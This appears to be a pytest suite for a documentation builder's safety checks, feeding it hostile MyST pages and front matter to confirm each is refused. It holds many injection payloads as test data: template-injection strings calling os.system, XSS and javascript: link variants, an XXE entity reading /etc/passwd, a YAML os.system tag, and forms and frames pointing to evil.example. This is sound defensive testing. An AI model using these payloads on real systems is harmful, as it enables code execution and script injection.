"""Pages that mean harm: each is refused with file and line, or all its editions are shown to hold nothing of theirs.

The canary is a file outside the book; the listener counts connections; a process that got started would leave a mark.
"""

from __future__ import annotations

import re
import zipfile

import pikepdf
import pytest
from bs4 import BeautifulSoup
from conftest import ROOT
from hostile_book import CANARY, PAGE, build, harm, judge, sources
from reader.safety import allowlist, contents_tree
from reader.safety.instead import INSTEAD
from sphinx.errors import ConfigError

RUN = "{{ cycler.__init__.__globals__.os.popen('touch MARK').read() }}"
#: Blocks of a page. MARK, HOST and OUTSIDE are filled in.
BLOCKS = {
    "substitution": RUN,
    "substitution_in_a_sentence": f"See {RUN} here.",
    "substitution_other_delimiters": "{% for x in [1] %}<% import os; os.system('touch MARK') %>{% endfor %}",
    "eval_rst": "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```",
    "eval_rst_colons": ":::{eval-rst}\n.. include:: OUTSIDE\n:::",
    "raw": "```{raw} html\n<script>alert(1)</script>\n```",
    "raw_file": "```{raw} html\n:file: OUTSIDE\n```",
    "raw_address": "```{raw} html\n:url: http://HOST/x\n```",
    "raw_typst": '```{raw} typst\n#read("OUTSIDE")\n```',
    "raw_capitals": "```{RAW} html\n<script>alert(1)</script>\n```",
    "include": "```{include} OUTSIDE\n```",
    "include_dots": "```{include} ../../outside.txt\n```",
    "include_parser": "```{include} mini.md\n:parser: antigravity.X\n```",
    "literalinclude": "```{literalinclude} OUTSIDE\n```",
    "csv_table_file": "```{csv-table} T\n:file: OUTSIDE\n```",
    "csv_table_address": "```{csv-table} T\n:url: http://HOST/x.csv\n```",
    "code_block_file": "```{code-block} text\n:file: OUTSIDE\n```",
    "parsed_literal": "```{parsed-literal}\n<script>alert(1)</script>\n```",
    "meta": '```{meta}\n:http-equiv=Refresh: "0; url=https://evil.example"\n```',
    "role_directive": "```{role} raw-html(raw)\n:format: html\n```",
    "default_role": "```{default-role} raw\n```",
    "only": "```{only} html\nwords\n```",
    "math": "```{math}\n\\href{javascript:alert(1)}{x}\n```",
    "graphviz": "```{graphviz}\ndigraph { a }\n```",
    "py_module": "```{py:module} os\n```",
    "autodoc": "```{automodule} os\n```",
    "highlight": "```{highlight} ../../x\n```",
    "class": "```{class} x\n```",
    "date": "```{date}\n```",
    "unknown": "```{no-such-directive}\n```",
    "colons_without_a_name": "::: x onload=alert(1)\nwords\n:::",
    "script": "<script>alert(1)</script>",
    "script_in_a_sentence": "See <script>alert(1)</script> here.",
    "event": '<img src="x" onerror="alert(1)">',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name="p"></form>',
    "style": "<style>body{background:url(https://evil.example)}</style>",
    "svg": '<svg onload="alert(1)"></svg>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "unclosed_element": "<img src=x onerror=alert(1)\n",
    "declaration": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "instruction": "<?php echo 1 ?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "comment_that_ends_early": "<!--> <script>alert(1)</script> -->",
    "caption_of_nothing": "```{figure} /frameworks/dot.svg\n:alt: x\n\n[a]: https://example.org\n```",
    "caption_of_a_comment": "```{figure} /frameworks/dot.svg\n:alt: x\n\n<!-- x -->\n```",
    "comment": "<!-- <script>alert(1)</script> -->",
    "line_comment": "% <script>alert(1)</script>",
    "line_break": "one<br>two",
    "raw_role": "{raw}`<script>alert(1)</script>`",
    "raw_html_role": "{raw-html}`<script>alert(1)</script>`",
    "download_role": "{download}`words <OUTSIDE>`",
    "any_role": "{any}`os`",
    "math_role": "{math}`x`",
    "code_role": "{code}`x`",
    "eval_role": "{eval}`x`",
    "numref_script": "{numref}`<script>alert(1)</script> <figure-mini>`",
    "term_script": "{term}`<img src=x onerror=alert(1)> <big part>`",
    "abbr_script": '{abbr}`x ("><script>alert(1)</script>)`',
    "link_script": "[x](javascript:alert(1))",
    "link_script_capitals": "[x](JaVaScRiPt:alert(1))",
    "link_script_tab": "[x](java\tscript:alert(1))",
    "link_script_entity": "[x](javascript&#58;alert(1))",
    "link_script_entities": "[x](&#106;avascript:alert(1))",
    "link_data": "[x](data:text/html,<script>alert(1)</script>)",
    "link_vbscript": "[x](vbscript:x)",
    "link_file": "[x](file:///etc/passwd)",
    "link_ftp": "[x](ftp://evil.example/)",
    "link_intent": "[x](intent://evil#Intent;end)",
    "link_host_alone": "[x](//evil.example/x)",
    "link_backslashes": "[x](\\\\\\\\evil.example/x)",
    "link_reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "link_reference_ftp": "[x][y]\n\n[y]: ftp://evil.example",
    "autolink": "<javascript:alert(1)>",
    "autolink_ftp": "<ftp://evil.example>",
    "link_to_a_file": "[x](OUTSIDE)",
    "link_to_the_configuration": "[x](/conf.py)",
    "link_path": "[x](path:/conf.py)",
    "link_inventory": "[x](inv:x#y)",
    "link_project": "[x](project:/conf.py)",
    "figure_script": "```{figure} /frameworks/dot.svg\n:alt: A dot.\n:target: javascript:alert(1)\n\nWords.\n```",
    "image_script": "```{image} /frameworks/dot.svg\n:alt: A dot.\n:target: data:text/html,x\n```",
    "toctree_address": "```{toctree}\nx <https://evil.example>\n```",
    "toctree_script": "```{toctree}\nx <javascript:alert(1)>\n```",
    "filter": '```{bibliography}\n:filter: __import__("os").system("touch MARK")\n```',
    "filter_with_an_endless_expression": '```{bibliography}\n:filter: title % "(a+)+$"\n```',
    "filter_nested": "```{bibliography}\n:filter: " + "(" * 3000 + "\n```",
    "number_wide": "{numref}`{number:>99999999} <figure-mini>`",
    "number_wide_old": "{numref}`%99999999s <figure-mini>`",
    "number_attribute": "{numref}`{number.__class__.__mro__} <figure-mini>`",
    "number_many_names": "{numref}`" + "{name}" * 3000 + "{number} <figure-mini>`",
    "number_plain": "{numref}`see {number} here <figure-mini>`",
    "link_user": "[x](https://oecd.org@evil.example/)",
    "link_user_backslash": "[x](https:\\\\oecd.org@evil.example)",
    "figure_file": "```{figure} /frameworks/dot.svg\n:alt: A dot.\n:target: /conf.py\n\nWords.\n```",
    "image_file": "```{image} /frameworks/dot.svg\n:alt: A dot.\n:target: ../../outside.txt\n```",
    "image_user": "```{image} /frameworks/dot.svg\n:alt: A dot.\n:target: https://a:b@evil.example\n```",
    "cells": "| a | b | c |\n|---|---|---|\n"
    + "\n\n".join(["| a | b | c |\n|---|---|---|" + "\n| a | b | c |" * 900] * 8),
    "headings": "\n\n".join(f"## H{number}" for number in range(500)),
    "word_without_end": "x" * 15_000,
    "index_entry_without_end": "```{index} single: " + "x" * 15_000 + "\n```",
    "accents": "a" + "\u0301" * 9000,
    "accents_as_references": "## a" + "&#x301;" * 900,
    "class_that_hides": ":::{container} visually-hidden\nwords\n:::",
    "class_of_a_figure": "```{figure} /frameworks/dot.svg\n:alt: x\n:figclass: page-frame\n\nWords.\n```",
    "class_in_yaml": "```{note}\n---\nclass: visually-hidden\n---\nwords\n```",
    "class_after_an_option": "```{list-table} T\n:header-rows: 1\n:class: x\n\n* - a\n* - b\n```",
    "class_of_a_container": '```{container} x" onclick="alert(1)\nwords\n```',
    "name_of_a_figure": '```{figure} /frameworks/dot.svg\n:alt: x\n:name: a" onload="alert(1)\n\nWords.\n```',
    "alt_text": '```{figure} /frameworks/dot.svg\n:alt: "><script>alert(1)</script>\n\nWords.\n```',
    "heading": "## <script>alert(1)</script>",
    "heading_code": "## `<script>alert(1)</script>`",
    "index_entry": "```{index} single: <script>alert(1)</script>\n```",
    "code": "```html\n<script>alert(1)</script>\n```",
    "code_language": '```"><script>alert(1)</script>\nwords\n```',
    "footnote": "Words.[^n]\n\n[^n]: <script>alert(1)</script>",
    "table": "| a |\n|---|\n| <script>alert(1)</script> |",
}
#: Blocks around a block: it is refused at any depth.
AROUND = {
    "note": ":::::{note}\n%s\n:::::",
    "note_in_a_note": "::::::{note}\n:::::{note}\n%s\n:::::\n::::::",
    "container": ":::::{container} audiences\n%s\n:::::",
    "list": "- words\n\n  %s",
    "quotation": "> %s",
    "table": "::::{list-table}\n* - words\n  - %s\n::::",
    "caption": "::::{figure} /frameworks/dot.svg\n:alt: x\n\n%s\n::::",
    "glossary": ":::::{glossary}\nx y z\n  %s\n:::::",
    "contents": "::::{original-contents}\n:foreword: %s\n:3: x\n::::",
    "footnote": "Words.[^n]\n\n[^n]: Words.\n\n    %s",
}
NESTED = {
    f"{outer}_{inner}": (outer, inner)
    for outer in AROUND
    for inner in ("raw", "script_in_a_sentence", "link_to_a_file", "include")
}
MATTER = {
    "substitutions": "myst:\n  substitutions:\n    x: \"{{ cycler.__init__.__globals__.os.system('touch MARK') }}\"",
    "extensions": "myst:\n  enable_extensions: [substitution, html_image]",
    "schemes": "myst:\n  url_schemes: [javascript]",
    "schemes_with_words": 'myst:\n  url_schemes:\n    x: "javascript:{{path}}"',
    "refresh": 'myst:\n  html_meta:\n    "http-equiv=refresh": "0;url=https://evil.example"',
    "property": 'myst:\n  html_meta:\n    "property=og:url": "javascript:x"',
    "top_substitutions": 'substitutions:\n  x: "y"',
    "html_meta": 'html_meta:\n  x: "y"',
    "orphan": "orphan: true",
    "unknown": "layout: x",
    "list": "- a\n- b",
    "words": "just words",
    "python": "argument: !!python/object/apply:os.system ['touch MARK']",
    "number": "argument: 5",
    "nested": "frameworks: {a: {b: c}}",
    "description_as_list": "myst:\n  html_meta:\n    description: [a]",
    "broken": "argument: [",
}


@pytest.mark.parametrize("case", BLOCKS)
def test_a_block_of_a_page_does_no_harm(make_app, tmp_path, listener, case):
    judge(make_app, tmp_path, listener, sources(tmp_path, listener[0], block=BLOCKS[case]))


@pytest.mark.parametrize("case", NESTED)
def test_a_block_inside_others_does_none_either(make_app, tmp_path, listener, case):
    outer, inner = NESTED[case]
    block = BLOCKS[inner]
    head, *_rest = AROUND[outer].split("%s")[0].splitlines()[-1:] or [""]
    indent = " " * (len(head) - len(head.lstrip()) if not head.strip() else len(re.match(r"\s*(?:- |> )?", head)[0]))
    lines = ("\n" + ("> " if outer == "quotation" else indent)).join(block.splitlines())
    assert judge(make_app, tmp_path, listener, sources(tmp_path, listener[0], block=AROUND[outer] % lines))


@pytest.mark.parametrize("case", MATTER)
def test_front_matter_is_the_book_s_own(make_app, tmp_path, listener, case):
    assert judge(make_app, tmp_path, listener, sources(tmp_path, listener[0], matter=MATTER[case]))


def test_what_contributing_offers_in_place_of_html_passes(make_app, tmp_path, listener):
    words = "One\\\ntwo {sup}`2` {sub}`3` {abbr}`OECD (Organisation for)`.\n\n> Quoted\\\n> line"
    book = sources(tmp_path, listener[0], block=words)
    assert not judge(make_app, tmp_path, listener, book)
    page = BeautifulSoup((tmp_path / "out-html" / "html" / PAGE).with_suffix(".html").read_text("utf-8"), "html.parser")
    assert len(page.select("p > br")) == 2 and page.sup and page.sub and page.abbr
    with pikepdf.open(next((tmp_path / "out-typst").rglob("*.pdf"))) as document:
        assert len(document.pages) > 1


def test_a_catalogue_hides_nothing(make_app, tmp_path):
    book = sources(tmp_path, "")
    catalogue = book / "locale" / "es" / "LC_MESSAGES" / "publications" / "mini2020first.po"
    catalogue.parent.mkdir(parents=True)
    catalogue.write_text('msgid "A section"\nmsgstr "Una \u202eparte"\n', "utf-8")
    with (book / "conf.py").open("a", encoding="utf-8") as configuration:
        configuration.write('locale_dirs = ["locale"]\n')
    assert "mini2020first.po:2: WARNING: U+202E" in build(make_app, book, tmp_path / "out", "html")


#: What a list of contents names, to a word of the message.
CONTENTS = {
    "/index": "lead from .* back to it",
    "/publications/../index": "lead from .* back to it",
    "/frameworks/mini": "listed by frameworks/index.md, too",
    "*\n/*": "index.md, too",
}


@pytest.mark.parametrize("name", CONTENTS)
def test_contents_are_a_tree(make_app, tmp_path, name):
    glob = ":glob:\n\n" if "*" in name else ""
    book = sources(tmp_path, "", block=f"```{{toctree}}\n{glob}{name}\n```")
    with pytest.raises(ConfigError, match=CONTENTS[name]) as raised:
        build(make_app, book, tmp_path / "out", "html")
    assert re.match(rf"{re.escape(PAGE)}:\d+: ", str(raised.value))


def test_contents_are_as_deep_as_a_book(tmp_path):
    def chain(length: int) -> dict[str, list[str]]:
        return {f"p{n}": [f"p{n + 1}"] for n in range(length)}

    assert list(contents_tree.faults(chain(contents_tree.MAX_DEPTH))) == []
    for length in (contents_tree.MAX_DEPTH + 1, 5000):
        ((_page, _child, message),) = contents_tree.faults(chain(length))
        assert "pages deep" in message
    ((page, child, message),) = contents_tree.faults({"a": ["b"], "b": ["c"], "c": ["a"]})
    assert (page, child) == ("c", "a") and "back to it" in message
    assert len(list(contents_tree.faults({"a": ["b", "b"], "c": ["b"]}))) == 2


def test_the_checks_find_what_they_look_for(tmp_path):
    """Seeded harm, of each kind that a test above would have to find."""
    (tmp_path / "a.html").write_text(
        '<img src=x onerror="alert(1)"><a href=" java&#10;script:x">y</a><iframe></iframe><script>alert(1)</script>'
        f'<meta http-equiv="Refresh" content="0;url=x"><p>{CANARY}</p>',
        "utf-8",
    )
    with zipfile.ZipFile(tmp_path / "b.epub", "w") as package:
        package.writestr("c.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><svg onload="x"/></html>')
        package.writestr("d.txt", CANARY)
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x"))
    pdf.Root.Other = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:x"))
    pdf.save(tmp_path / "e.pdf")
    assert len(harm(tmp_path)) == 11, harm(tmp_path)


def test_what_pages_may_use_is_what_contributing_says():
    text = (ROOT / "CONTRIBUTING.md").read_text("utf-8")
    part = text.partition("## What a page may use")[2].partition("\n## ")[0]
    assert set(re.findall(r"(?<!`)`\{([\w-]+)\}`", part)) == allowlist.DIRECTIVES
    assert set(re.findall(r"``\{([\w:-]+)\}`…` ``", part)) == allowlist.ROLES


@pytest.mark.parametrize("case", [case for case in BLOCKS if case.startswith("class_")])
def test_classes_are_refused_in_words(case):
    name, argument, content = re.match(r"[`:]{3}\{([\w-]+)\} ?(.*)\n([\s\S]*)", BLOCKS[case]).groups()
    if case != "class":
        assert "no looks of their own" in allowlist.refused_class(name, argument, content)
    assert not allowlist.refused_class("note", "", ":name: a\n\nIn the text :class: x may stand.\n")


def test_every_directive_and_role_of_the_book_is_allowed():
    pages = [
        path.read_text("utf-8")
        for folder in ("publications", "frameworks", "about")
        for path in (ROOT / folder).glob("*.md")
    ]
    text = "\n".join(
        [*pages, *((ROOT / f"{name}.md").read_text("utf-8") for name in ("index", "glossary", "bibliography"))]
    )
    assert set(re.findall(r"^\s*(?:`{3,}|:{3,})\{([\w-]+)\}", text, re.MULTILINE)) <= allowlist.DIRECTIVES
    assert len(allowlist.DIRECTIVES) < 40 and not allowlist.DIRECTIVES & set(INSTEAD)
